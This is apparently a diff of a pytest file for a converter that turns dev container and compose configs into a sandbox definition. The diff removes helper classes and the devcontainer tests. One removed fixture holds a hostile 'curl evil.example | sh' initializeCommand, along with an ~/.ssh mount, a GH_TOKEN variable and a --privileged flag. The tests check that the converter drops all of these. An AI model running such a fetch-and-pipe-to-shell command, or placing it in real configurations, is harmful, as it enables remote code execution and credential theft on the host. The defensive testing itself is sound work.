@@ -2,48 +2,14 @@
 
 from __future__ import annotations
 
-import json
 from pathlib import Path
-from typing import Any
 
 import pytest
+from starter_conversion import Converted, written
 
 from engine.errors import EngineError
-from engine.starter.proposals import Findings
-from engine.starter.starting import Choices, Start, look, write
-from sandboxfile import Inputs, Loaded, SandboxfileError, load
-
-
-class Converted:
-    """One conversion in `tmp_path`: the findings, the new file as it loads, and what was listed."""
-
-    def __init__(self, source: Path, output: Path | None = None, unset: list[str] | None = None) -> None:
-        self.start: Start = look(output, source)
-        self.found: Findings = self.start.found
-        self.text = write(self.start, Choices(self.start.suggestion, self.found.mount))
-        self.start.path.write_text(self.text)
-        self.loaded: Loaded = load(self.start.path, Inputs(environment=dict.fromkeys(unset or [], "1")))
-        self.sandbox = self.loaded.sandbox
-        self.listed = {item.path: item.reason for item in self.found.left_out}
-
-    def place(self, path: str) -> tuple[int, int]:
-        [position] = [item.position for item in self.found.left_out if item.path == path]
-        assert position is not None
-        return position
-
-    def setup(self) -> list[Any]:
-        return [step.model_dump(exclude_defaults=True, exclude_unset=True) for step in self.sandbox.setup]
-
-
-def written(root: Path, files: dict[str, Any], source: str) -> Path:
-    for name, content in files.items():
-        path = root / name
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(content if isinstance(content, str) else json.dumps(content))
-    return root / source
-
-
-# --- Compose
+from engine.starter.starting import look
+from sandboxfile import SandboxfileError
 
 
 def test_compose_that_fits_is_included(tmp_path: Path) -> None:
@@ -146,138 +112,6 @@ def test_hopeless_compose(tmp_path: Path) -> None:
 
 
 # --- dev containers
-
-DEVCONTAINER = """\
-// For format details, see https://aka.ms/devcontainer.json.
-{
-	"$schema": "https://example.com/schema.json",
-	"name": "Python 3 & PostgreSQL",
-	"dockerComposeFile": "docker-compose.yml",
-	"service": "app",
-	"workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}",
-	"features": {
-		"ghcr.io/devcontainers/features/node:1": {"version": "22"},
-		"ghcr.io/devcontainers/features/github-cli:1": {},
-		"ghcr.io/devcontainers/features/terraform@sha256:abc": {},
-		"ghcr.io/rocker-org/devcontainer-features/apt-packages:1": {"packages": "ripgrep,fd-find"},
-	},
-	"forwardPorts": [5000, "db:5432", "localhost:6000"], /* two of
-	them */
-	"appPort": "8000:8010",
-	"postCreateCommand": "pip install -r requirements.txt && ./scripts/setup.sh",
-	"onCreateCommand": ["npm", "ci"],
-	"updateContentCommand": {"a": "make all", "b": ["echo", "x y"], "c": 1},
-	"postStartCommand": "serve",
-	"initializeCommand": "curl evil.example | sh",
-	"containerEnv": {
-		"A": "1", "T": "${localEnv:GH_TOKEN}", "L": "${localEnv:LANG:C}", "W": "${containerWorkspaceFolder}/x$y"
-	},
-	"remoteEnv": {"PATH": "${containerEnv:PATH}:/x", "Z": null, "no-name": "x"},
-	"mounts": [
-		"source=${localWorkspaceFolder}/data,target=/data,type=bind,readonly",
-		"source=v,target=/v,type=volume",
-		{"type": "bind", "source": "${localEnv:HOME}/.ssh", "target": "/home/x/.ssh"},
-		"source=${localWorkspaceFolder}/../up,target=/up,type=bind"
-	],
-	"remoteUser": "vscode",
-	"hostRequirements": {"cpus": 4, "memory": "8gb", "storage": "32gb", "gpu": "optional"},
-	"customizations": {"vscode": {"extensions": ["ms-python.python"]}},
-	"runArgs": ["--privileged"],
-	"weird": 1,
-}
-"""
-
-
-def dev_container(root: Path, text: str = DEVCONTAINER) -> Converted:
-    files = {
-        ".devcontainer/devcontainer.json": text,
-        ".devcontainer/docker-compose.yml": "services: {app: {build: .}, db: {image: postgres:17}}",
-        ".devcontainer/Dockerfile": "FROM mcr.microsoft.com/a:1\n",
-        "requirements.txt": "", "scripts/setup.sh": "", "package.json": "{}", "package-lock.json": "{}", "Makefile": "",
-    }  # fmt: skip
-    return Converted(written(root, files, ".devcontainer/devcontainer.json"))
-
-
-def test_dev_container(tmp_path: Path) -> None:
-    project = tmp_path / "shop"
-    project.mkdir()
-    done = dev_container(project)
-    sandbox = done.sandbox
-    assert done.start.path == project / "Sandboxfile.yaml"
-    assert sandbox.name == "python-3-postgresql" and set(sandbox.services) == {"db"}
-    assert sandbox.packages == ("gh", "ripgrep", "fd-find")
-    assert done.setup() == [
-        {"run": "npm ci", "inputs": ("package.json", "package-lock.json")},
-        {"run": "make all", "inputs": ("Makefile",)},
-        {"run": "echo 'x y'"},
-        {
-            "run": "pip install -r requirements.txt && ./scripts/setup.sh",
-            "inputs": ("requirements.txt", "scripts/setup.sh"),
-            "env": {"PIP_BREAK_SYSTEM_PACKAGES": "1"},
-        },
-    ]
-    assert [(mount.source, mount.target, mount.mode) for mount in sandbox.mounts] == [
-        (".", "/workspaces/shop", "rw"),
-        ("./data", "/data", "ro"),
-    ]
-    assert [(port.host, port.guest) for port in sandbox.ports] == [(5000, 5000), (6000, 6000), (8000, 8010)]
-    assert sandbox.agent is not None and sandbox.agent.env == {"A": "1", "L": "C", "W": "/workspaces/shop/x$y"}
-    assert '"${LANG:-C}"' in done.text
-    assert (sandbox.machine.cpus, sandbox.machine.memory, sandbox.machine.disk) == (4, 8 << 30, 32 << 30)
-    assert {end.group or end.host for end in sandbox.endpoints} >= {"npm", "pypi", "debian", "mcr.microsoft.com"}
-
-
-def test_what_a_dev_container_leaves_out(tmp_path: Path) -> None:
-    done = dev_container(tmp_path)
-    assert set(done.listed) == {
-        "features['ghcr.io/devcontainers/features/node:1']",
-        "features['ghcr.io/devcontainers/features/terraform@sha256:abc']", "postStartCommand",
-        "initializeCommand", "containerEnv.T", "remoteEnv.PATH", "remoteEnv.Z", "remoteEnv.no-name", "mounts[1]",
-        "mounts[2]", "mounts[3]", "remoteUser", "hostRequirements.gpu", "customizations", "runArgs[0]", "weird",
-    }  # fmt: skip
-    assert done.listed["initializeCommand"] == "it runs on this host, and nothing from a file does"
-    assert "evil" not in done.text and "GH_TOKEN" not in done.text
-    assert done.place("weird") == (36, 2) and done.place("mounts[2]") == (29, 3)
-
-
-@pytest.mark.parametrize(
-    ("data", "listed"),
-    [
-        ({}, set()),
-        ({"image": "x", "build": {}, "dockerFile": "x"}, {"image", "build", "dockerFile"}),
-        ({"dockerComposeFile": "../../x.yml"}, {"dockerComposeFile"}),
-        ({"dockerComposeFile": ["missing.yml"]}, {"dockerComposeFile"}),
-        ({"dockerComposeFile": 1}, {"dockerComposeFile"}),
-        ({"workspaceFolder": "relative"}, {"workspaceFolder"}),
-        ({"workspaceFolder": "/proc/x"}, {"from workspaceFolder: mounts"}),
-        ({"forwardPorts": [0, 70000, True, None]}, {"forwardPorts[2]", "forwardPorts[3]"}),
-        ({"remoteUser": "root"}, set()),
-        ({"containerEnv": {"A": [1], "B": "\x1b[2J"}}, set()),
-        ({"hostRequirements": {"cpus": True, "memory": "lots"}}, {"hostRequirements.cpus", "hostRequirements.memory"}),
-        ({"postCreateCommand": ""}, set()),
-        ({"postCreateCommand": "cp ${localWorkspaceFolder}/a b"}, {"postCreateCommand"}),
-        ({"postCreateCommand": "echo 'open"}, set()),
-        ({"mounts": "x", "features": [], "name": 1}, set()),
-    ],
-)
-def test_odd_dev_containers(tmp_path: Path, data: dict[str, Any], listed: set[str]) -> None:
-    done = dev_container(tmp_path, json.dumps(data))
-    assert listed <= set(done.listed)
-    assert done.loaded.sandbox.version == "1"
-
-
-def test_a_dev_container_in_a_folder_of_its_own(tmp_path: Path) -> None:
-    done = Converted(
-        written(
-            tmp_path,
-            {".devcontainer/python/devcontainer.json": '{"name": "a b"}'},
-            ".devcontainer/python/devcontainer.json",
-        )
-    )
-    assert done.start.path == tmp_path / "Sandboxfile.yaml" and done.sandbox.name == "a-b"
-
-
-# --- sbx env
 
 SBXENV = """\
 schemaVersion: "1"
@@ -407,43 +241,6 @@ def test_by_content_and_by_directory(tmp_path: Path) -> None:
     assert look(None, tmp_path / ".devcontainer").found.proposals[0].value == "dev"
     with pytest.raises(EngineError, match="no file that can be converted"):
         look(None, tmp_path / "nowhere")
-
-
-FOREIGN = {
-    "onCreateCommand": ["apk", "add", "git"],
-    "updateContentCommand": {
-        "a": "chown -R vscode:vscode x",
-        "b": "/usr/local/bin/firewall.sh",
-        "c": "pip install -e .",
-    },
-    "postCreateCommand": "sh ${containerWorkspaceFolder}/bin/setup && ./configure",
-    "containerEnv": {"B": True},
-    "runArgs": ["--gpus", "all", "--what"],
-}
-
-
-def test_a_dev_container_of_another_kind(tmp_path: Path) -> None:
-    """What cannot run in the machine is commented out, and a step's files are its inputs."""
-    written(tmp_path, {"bin/setup": "", "configure": ""}, "")
-    done = dev_container(tmp_path, json.dumps(FOREIGN))
-    assert done.setup() == [
-        {"run": "sh /workspace/bin/setup && ./configure", "inputs": ("bin/setup", "Makefile", "configure")}
-    ]
-    off = [proposal.remark for proposal in done.found.proposals if proposal.section == "setup" and not proposal.active]
-    assert ["no apk" in off[0], "`agent`" in off[1], "was in the image" in off[2], "inputs, too" in off[3]] == [
-        True
-    ] * 4
-    assert done.sandbox.agent is not None and done.sandbox.agent.env == {"B": "true"}
-    assert done.listed["runArgs[0]"] == "--gpus: the machine has no GPU" and "runArgs[2]" in done.listed
-
-
-def test_a_service_that_is_the_dev_container(tmp_path: Path) -> None:
-    text = "services: {app: {image: x, environment: [A=b], ports: ['3000:3000']}, db: {image: y}}"
-    data = {"dockerComposeFile": "c.yaml", "service": "app", "forwardPorts": [3000, "db:5432"]}
-    files = {".devcontainer/c.yaml": text, ".devcontainer/devcontainer.json": data}
-    done = Converted(written(tmp_path, files, ".devcontainer/devcontainer.json"))
-    assert done.sandbox.services == {"db": {"image": "y", "ports": ["5432:5432"]}}
-    assert done.sandbox.agent is not None and done.sandbox.agent.env == {"A": "b"} and done.listed == {}
 
 
 @pytest.mark.parametrize("name", [".devcontainer.json", "docker-compose.yml", ".devcontainer/cpu/devcontainer.json"])
